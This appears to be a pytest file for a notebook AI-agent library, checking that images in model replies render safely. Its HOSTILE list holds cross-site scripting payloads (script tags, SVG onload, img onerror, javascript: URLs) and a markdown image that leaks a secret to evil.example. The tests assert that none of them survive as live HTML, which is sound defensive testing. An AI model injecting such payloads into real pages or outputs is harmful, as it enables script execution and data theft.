"""A cell shows the images that a model made, after checking their data, and nothing else passes for an image."""

import base64
import re

import pytest
from support.displays import Displays

from nbagent import Agent, LLMResponse, ScriptedProvider
from nbagent.notebook.display.transcript import Transcript
from nbagent.notebook.display.view import CellView, TerminalView

GIF = base64.b64encode(b"GIF89a" + bytes([3, 0, 2, 0])).decode()
IMAGE = {"type": "image", "media_type": "image/gif", "data": GIF}
TAG = f'<img src="data:image/gif;base64,{GIF}" alt="[image: 3x2 gif]">'
HOSTILE = [
    {**IMAGE, "media_type": '"><script>alert(1)</script>'},
    {**IMAGE, "media_type": "image/svg+xml", "data": base64.b64encode(b"<svg onload=alert(1)>").decode()},
    {**IMAGE, "media_type": '"><script>alert(2)</script>', "data": '"><script>alert(3)</script>'},
    {"type": "image", "url": 'https://evil.example/x.png"><script>alert(4)</script>'},
    {"type": "image", "url": "javascript:alert(5)"},
    {"type": "text", "text": "<img src=x onerror=alert(6)> ![leak](http://evil.example/?secret)"},
]


def turn(*parts, calls=None):
    text = "".join(part.get("text", "") for part in parts)
    return LLMResponse(text, calls, "stop", {"parts": list(parts), "thinking": "Hm."})


def words(text):
    return {"type": "text", "text": text}


async def shown(agent, view):
    async for event in agent.chat_stream("draw"):
        view.feed(event)
    view.close()


async def test_images_stand_where_they_came():
    displays = Displays()
    view = CellView(Transcript(timings=False), displays)
    agent = Agent(ScriptedProvider([turn(words("**one**"), IMAGE, words("two"), IMAGE)]))
    await shown(agent, view)
    html = displays.html
    assert html.count(TAG) == 2
    order = [html.index(piece) for piece in ("Thought", "<strong>one</strong>", TAG, "<p>two</p>")]
    assert order == sorted(order)
    plain = displays.text.splitlines()
    assert plain[:4] == ["**one**", "[image: 3x2 gif]", "two", "[image: 3x2 gif]"]
    assert sum(GIF in bundle["text/html"] for _, bundle in displays.sent) == 2, "large data is sent once"


async def test_hostile_parts_do_not_become_images():
    displays = Displays()
    view = CellView(Transcript(), displays, live=False)
    await shown(Agent(ScriptedProvider([turn(*HOSTILE)])), view)
    html = displays.html
    assert re.findall(r"<img[^>]*>", html) == [TAG], "the first is an image, whatever it claims to be"
    assert "<script" not in html
    assert "src=x" not in re.sub(r"&lt;.*?&gt;", "", html)
    assert not re.search(r"(?:src|href)=.?(?:http|javascript)", html)
    assert "[image: javascript:alert(5)]" in displays.text


async def test_a_terminal_mentions_images(capsys):
    await shown(Agent(ScriptedProvider([turn(words("Here:"), IMAGE)])), TerminalView(Transcript(timings=False)))
    assert "Here:\n[image: 3x2 gif]\n" in capsys.readouterr().out


@pytest.mark.kernel
@pytest.mark.parametrize("live", [True, False], ids=["watched", "headless"])
def test_an_image_answer_in_a_kernel(shared, live):
    made = f"LLMResponse('Here:', None, 'stop', {{'parts': [{words('Here:')!r}, {IMAGE!r}]}})"
    shared.ok(f"agent = Agent(ScriptedProvider([{made}]))")
    cell = shared.ok("%%agent\nDraw a dot.", allow_stdin=live)
    assert set(cell.displays[-1]) == {"text/html", "text/plain"}
    assert TAG in cell.html
    assert cell.text.startswith("Here:\n[image: 3x2 gif]")
    (image,) = shared.ok("_agent.images[0]").of("execute_result")
    assert image["data"] == {"image/gif": GIF, "text/plain": "<Image 3x2 gif, 10 bytes>"}
